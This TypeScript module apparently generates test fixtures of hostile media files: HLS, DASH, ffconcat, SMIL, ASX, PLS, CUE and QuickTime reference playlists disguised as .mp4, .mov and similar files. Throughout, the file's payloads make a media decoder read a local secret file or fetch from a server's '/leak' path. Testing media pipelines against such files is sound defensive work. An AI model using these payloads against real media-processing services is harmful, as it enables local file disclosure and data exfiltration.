import { file, type HostileFile, hex, type Prey } from './hostile-file.ts';

/** Lists and descriptions that make a player open something else, in the clothes of a film or a picture. */
export const playlists = (prey: Prey): HostileFile[] => [
  file('hls-secret.mp4', hls(`file://${prey.secret}`)),
  file('hls-secret-bare.mp4', hls(prey.secret)),
  file('hls-sibling.mp4', hls('sibling.mp4')),
  file('hls-sibling-dots.mov', hls('../sibling.mp4')),
  file('hls-http.mp4', hls(`${prey.server}/leak.ts`)),
  file('hls-concat.mp4', hls(`concat:${prey.server}/head.m3u8|file://${prey.secret}`)),
  file('hls-subfile.mp4', hls(`subfile,,start,0,end,100,,:${prey.secret}`)),
  file('hls-crypto-key.mp4', `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="file://${prey.secret}"\n${hls('sibling.mp4')}`),
  file('hls-map.mp4', `#EXTM3U\n#EXT-X-MAP:URI="${prey.secret}"\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nsibling.mp4\n`),
  file('hls-after-bom.mp4', hex('efbbbf'), hls(prey.sibling)),
  file('hls-after-lines.avi', '\n\n\n', hls(prey.sibling)),
  file('hls-behind-ts-byte.ts', hex('47'), hls(prey.sibling)),
  file('hls-many.m3u8', `#EXTM3U\n${`#EXTINF:1,\n${prey.sibling}\n`.repeat(50_000)}`),
  file('concat-secret.mp4', `ffconcat version 1.0\nfile ${prey.secret}\n`),
  file('concat-sibling.mp4', 'ffconcat version 1.0\nfile sibling.mp4\nduration 4\n'),
  file('concat-options.mkv', `ffconcat version 1.0\nfile '${prey.sibling}'\noption safe 0\n`),
  file('dash-http.mp4', dash(`${prey.server}/leak.mp4`)),
  file('dash-secret.mp4', dash(`file://${prey.secret}`)),
  file('sdp.mp4', 'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 18099 RTP/AVP 96\n'),
  file('reference.mov', `[Reference]\nRef1=${prey.server}/leak\nRef2=file://${prey.secret}\n`),
  file('smil.mp4', `<smil><body><video src="${prey.server}/leak.mp4"/></body></smil>`),
  file('asx.wmv', `<asx version="3.0"><entry><ref href="${prey.server}/leak.wmv"/></entry></asx>`),
  file('pls.mp3', `[playlist]\nFile1=${prey.server}/leak.mp3\nNumberOfEntries=1\nVersion=2\n`),
  file('movie-filter.mp4', `movie=${prey.secret}[out0]`),
  file('cue.flac', `FILE "${prey.sibling}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`),
  file('vobsub.idx', `# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n`),
  file('aqt-subtitle.mp4', '-->> 0\nwords\n\n-->> 99999999\n'),
];

const hls = (name: string): string =>
  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n#EXTINF:4.0,\n${name}\n#EXT-X-ENDLIST\n`;

const dash = (url: string): string =>
  `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT4S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${url}</BaseURL></Representation></AdaptationSet></Period></MPD>`;
